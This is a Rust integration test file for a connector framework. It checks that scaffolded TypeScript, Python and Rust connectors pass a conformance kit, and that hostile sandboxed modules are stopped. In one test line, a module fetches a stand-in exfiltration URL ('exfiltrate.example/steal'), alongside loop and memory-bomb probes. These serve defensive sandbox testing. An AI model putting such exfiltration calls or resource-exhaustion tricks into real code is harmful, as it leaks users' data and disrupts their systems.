//! Connectors in TypeScript (kits/typescript) and Python (kits/python) next to Rust ones:
//! `junction connector new NAME --lang rust|ts|python` gives a folder that `junction connector
//! build` turns into a component passing the conformance kit unchanged, in all three languages
//! (the parity check: one small connector written three times); and the sandbox contains a
//! TypeScript and a Python module that loop, bloat or call a host not allowed, as it contains
//! the Rust one (tests/it/sandbox.rs), while the kits' host HMAC verifies signatures with a
//! secret the module never holds.
//!
//! Non-Rust components are built once per test run (the kits skip a build whose inputs did not
//! change) into target/connectors/, from source, with the tools .ci/run installs.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::{Mutex, OnceLock};
use std::time::Duration;

use junction::cli::conformance::{Options, Report, Vendor, Verdict, run_kit};
use junction::host::{Auth, CallContext, CallError, Connector, EgressPolicy, InstanceSpec, Limits};
use junction::services::secret::Secret;
use junction_connector_kit::Webhook;

use crate::sandbox::misbehave;
use crate::support::host;

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .expect("tests/ sits in the repository")
        .to_path_buf()
}

fn junction(args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_junction-cli"))
        .args(args)
        .env("JUNCTION_KITS", repo().join("kits"))
        .env(
            "JUNCTION_CONNECTOR_TARGET_DIR",
            repo().join("target/connector-builds"),
        )
        .output()
        .expect("the junction CLI runs")
}

/// Builds a connector folder (relative to the repository, any language) with `junction
/// connector build` into target/connectors/OUT.wasm, once per test binary and folder. Panics
/// with the kit's message: it says to run `npm ci` in kits/typescript or `pip install -r
/// kits/python/requirements.txt` when their tools are missing (.ci/run does both).
pub fn component(dir: &str, out: &str) -> String {
    static BUILT: OnceLock<Mutex<Vec<(String, String)>>> = OnceLock::new();
    let mut built = BUILT
        .get_or_init(|| Mutex::new(Vec::new()))
        .lock()
        .unwrap_or_else(|e| e.into_inner());
    if let Some((_, path)) = built.iter().find(|(d, _)| d == dir) {
        return path.clone();
    }
    let path = repo().join("target/connectors").join(format!("{out}.wasm"));
    let dir_path = repo().join(dir);
    let made = junction(&[
        "connector",
        "build",
        dir_path.to_str().expect("a UTF-8 path"),
        "-o",
        path.to_str().expect("a UTF-8 path"),
    ]);
    assert!(
        made.status.success(),
        "junction connector build {dir} failed:\n{}\n{}",
        String::from_utf8_lossy(&made.stdout),
        String::from_utf8_lossy(&made.stderr)
    );
    let path = path.display().to_string();
    built.push((dir.to_string(), path.clone()));
    path
}

/// The TypeScript connector in `dir`, built.
pub fn typescript(dir: &str) -> String {
    let name = Path::new(dir)
        .file_name()
        .and_then(|n| n.to_str())
        .expect("a folder name");
    component(dir, name)
}

async fn kit(module: &str) -> Report {
    run_kit(&host(), &Options::new(module, Vendor::Zendesk))
        .await
        .unwrap_or_else(|e| panic!("the kit runs {module}: {e:#}"))
}

/// Every check passed but the webhook ones, which do not apply to a sink.
fn passes_as_a_sink(report: &Report) {
    assert!(report.passed(), "{}", report.table());
    for r in &report.results {
        match &r.verdict {
            Verdict::Pass(_) => {}
            Verdict::NotApplicable(why) if r.id.starts_with("webhook.") => {
                assert!(why.contains("webhooks = false"), "{why}");
            }
            other => panic!("{}: {other:?}\n{}", r.id, report.table()),
        }
    }
}

/// `junction connector new` in each language, built as generated and tested as generated:
/// the three pass the same conformance run.
#[tokio::test]
async fn a_new_connector_in_each_language_builds_and_passes_the_conformance_kit() {
    let parent = format!("target/scaffolds-{}", std::process::id());
    let parent_path = repo().join(&parent);
    let _ = std::fs::remove_dir_all(&parent_path);
    for (lang, name) in [
        ("ts", "desk-ts"),
        ("python", "desk-py"),
        ("rust", "desk-rs"),
    ] {
        let made = junction(&[
            "connector",
            "new",
            name,
            "--lang",
            lang,
            "--dir",
            parent_path.to_str().unwrap(),
        ]);
        assert!(
            made.status.success(),
            "{}",
            String::from_utf8_lossy(&made.stderr)
        );
        let dir = format!("{parent}/{name}");
        assert!(repo().join(&dir).join("README.md").exists());
        let module = component(&dir, name);
        let report = kit(&module).await;
        assert_eq!(report.name, name, "{}", report.table());
        passes_as_a_sink(&report);
    }
    // A second `new` into the same folder is refused, as is a name that is not one.
    let again = junction(&[
        "connector",
        "new",
        "desk-ts",
        "--lang",
        "ts",
        "--dir",
        parent_path.to_str().unwrap(),
    ]);
    assert!(!again.status.success());
    assert!(String::from_utf8_lossy(&again.stderr).contains("already exists"));
    let bad = junction(&["connector", "new", "Bad Name", "--lang", "python"]);
    assert!(String::from_utf8_lossy(&bad.stderr).contains("must start with a lower-case letter"));
    let _ = std::fs::remove_dir_all(&parent_path);
}

#[test]
fn building_a_folder_that_is_no_connector_is_a_clear_error() {
    let out = junction(&["connector", "build", repo().join("docs").to_str().unwrap()]);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("no Cargo.toml (Rust), package.json (TypeScript) or app.py (Python)"),
        "{err}"
    );
}

async fn hostile(module: &str, allow_hosts: &[&str]) -> Connector {
    let host = host();
    let module = host
        .load(module, None)
        .await
        .expect("the hostile component loads");
    host.instantiate(
        module,
        InstanceSpec {
            name: "hostile".into(),
            egress: EgressPolicy {
                allow_hosts: allow_hosts.iter().map(|h| h.to_string()).collect(),
                auth: Auth::None,
                credential_origins: Vec::new(),
                timeout: Duration::from_secs(10),
            },
            secrets: [("webhook".to_string(), Secret::new(HOOK_SECRET))].into(),
            limits: Limits {
                memory_bytes: 64 << 20,
                call_timeout: Duration::from_millis(3000),
                concurrency: 2,
                ..Limits::default()
            },
            ..InstanceSpec::default()
        },
    )
}

const HOOK_SECRET: &str = "polyglot-hook-secret";

/// The kit's `hmac` through the host: a body signed with the granted secret passes, another
/// signature is `invalid-webhook` (the kit's typed error), and the secret never entered the
/// module (it only ever saw the MAC).
async fn signs_through_the_host(c: &Connector) {
    let body = b"{\"id\":\"evt_1\"}";
    let mac = junction_connector_kit::testing::hmac_sha256(HOOK_SECRET.as_bytes(), body);
    let hook = |signature: String| Webhook {
        method: "POST".into(),
        path: "/signed".into(),
        headers: vec![("x-signature".into(), signature)],
        body: body.to_vec(),
    };
    let ctx = CallContext::default();
    let good = c.receive(&ctx, hook(hex::encode(&mac))).await.result;
    assert!(good.is_ok(), "{good:?}");
    let bad = c
        .receive(&ctx, hook("00".repeat(32)))
        .await
        .result
        .unwrap_err();
    assert!(
        matches!(
            &bad,
            CallError::Connector(junction_connector_kit::Error::InvalidWebhook(_))
        ),
        "{bad:?}"
    );
}

/// A loop, a memory bomb and a request to a host the pipeline does not allow, each stopped
/// with the same typed error as the Rust hostile module's, and the instance serves on.
async fn contained(module: &str) {
    let c = hostile(module, &["api.stripe.com"]).await;
    assert_eq!(misbehave(&c, "/ok", "").await, Ok(()));
    assert_eq!(
        misbehave(&c, "/loop", "").await,
        Err(CallError::Timeout(Duration::from_millis(3000)))
    );
    assert_eq!(
        misbehave(&c, "/ok", "").await,
        Ok(()),
        "serves after the loop"
    );
    assert_eq!(
        misbehave(&c, "/memory", "").await,
        Err(CallError::MemoryLimit(64 << 20))
    );
    assert_eq!(
        misbehave(&c, "/ok", "").await,
        Ok(()),
        "serves after the bomb"
    );
    let err = misbehave(&c, "/fetch", "https://exfiltrate.example/steal")
        .await
        .unwrap_err();
    assert!(
        matches!(&err, CallError::EgressDenied { url, .. } if url == "https://exfiltrate.example/steal"),
        "{err:?}"
    );
    assert_eq!(
        misbehave(&c, "/ok", "").await,
        Ok(()),
        "serves after the denial"
    );
    signs_through_the_host(&c).await;
}

#[tokio::test]
async fn a_hostile_typescript_module_is_contained() {
    contained(&component("tests/components/hostile-ts", "hostile-ts")).await;
}

#[tokio::test]
async fn a_hostile_python_module_is_contained() {
    contained(&component("tests/components/hostile-py", "hostile-py")).await;
}
